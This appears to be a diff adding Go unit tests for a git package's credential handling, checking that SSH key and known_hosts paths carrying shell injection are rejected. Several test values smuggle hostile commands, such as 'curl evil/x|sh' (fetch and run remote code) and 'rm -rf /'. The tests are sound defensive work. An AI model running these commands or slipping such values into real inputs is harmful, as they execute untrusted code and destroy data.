@@ -0,0 +1,103 @@
+package git
+
+import (
+	"os"
+	"testing"
+)
+
+func TestValidateSSHKeyPath(t *testing.T) {
+	tests := []struct {
+		name    string
+		path    string
+		wantErr bool
+	}{
+		{name: "plain path", path: "/home/user/.ssh/id_ed25519"},
+		{name: "path with spaces", path: "/home/user/my key", wantErr: true},
+		{name: "semicolon injection", path: "/tmp/k; curl evil/x|sh", wantErr: true},
+		{name: "command substitution", path: "/tmp/$(whoami)", wantErr: true},
+		{name: "backtick injection", path: "/tmp/`whoami`", wantErr: true},
+		{name: "pipe injection", path: "/tmp/k|sh", wantErr: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := ValidateSSHKeyPath(tt.path)
+			if (err != nil) != tt.wantErr {
+				t.Errorf("ValidateSSHKeyPath(%q) error = %v, wantErr %v", tt.path, err, tt.wantErr)
+			}
+		})
+	}
+}
+
+func TestSSHCommandEnv(t *testing.T) {
+	tests := []struct {
+		name    string
+		creds   Credentials
+		want    string
+		wantErr bool
+	}{
+		{name: "no key configured", creds: Credentials{}, want: ""},
+		{
+			name:  "key only",
+			creds: Credentials{SSHKeyPath: "/home/user/.ssh/id_ed25519"},
+			want:  "ssh -i /home/user/.ssh/id_ed25519 -o IdentitiesOnly=yes",
+		},
+		{
+			name:  "key and known_hosts",
+			creds: Credentials{SSHKeyPath: "/home/user/.ssh/id_ed25519", KnownHostsPath: "/home/user/.ssh/known_hosts"},
+			want:  "ssh -i /home/user/.ssh/id_ed25519 -o IdentitiesOnly=yes -o UserKnownHostsFile=/home/user/.ssh/known_hosts",
+		},
+		{
+			name:    "malicious key path rejected",
+			creds:   Credentials{SSHKeyPath: "/tmp/k; rm -rf /"},
+			wantErr: true,
+		},
+		{
+			name:    "malicious known_hosts path rejected",
+			creds:   Credentials{SSHKeyPath: "/home/user/.ssh/id_ed25519", KnownHostsPath: "/tmp/h; rm -rf /"},
+			wantErr: true,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := sshCommandEnv(tt.creds)
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("sshCommandEnv() error = %v, wantErr %v", err, tt.wantErr)
+			}
+			if err == nil && got != tt.want {
+				t.Errorf("sshCommandEnv() = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestAuthForURL_SSH_RejectsInjection(t *testing.T) {
+	_, _, err := authForURL(Credentials{SSHKeyPath: "/tmp/k; curl evil/x|sh"}, "git@github.com:org/repo.git")
+	if err == nil {
+		t.Fatal("authForURL() error = nil, want rejection of shell metacharacters")
+	}
+}
+
+func TestAuthForURL_HTTP_UsesTokenEnvVar(t *testing.T) {
+	const envVar = "CRULES_TEST_HTTP_TOKEN"
+	t.Setenv(envVar, "s3cr3t")
+	defer os.Unsetenv(envVar)
+
+	env, argvPrefix, err := authForURL(Credentials{HTTPTokenEnvVar: envVar}, "https://example.com/org/repo.git")
+	if err != nil {
+		t.Fatalf("authForURL() error = %v", err)
+	}
+	if len(env) != 0 {
+		t.Errorf("authForURL() env = %v, want none for HTTP auth", env)
+	}
+	want := []string{"-c", "http.extraHeader=Authorization: Bearer s3cr3t"}
+	if len(argvPrefix) != len(want) {
+		t.Fatalf("argvPrefix = %v, want %v", argvPrefix, want)
+	}
+	for i := range want {
+		if argvPrefix[i] != want[i] {
+			t.Fatalf("argvPrefix = %v, want %v", argvPrefix, want)
+		}
+	}
+}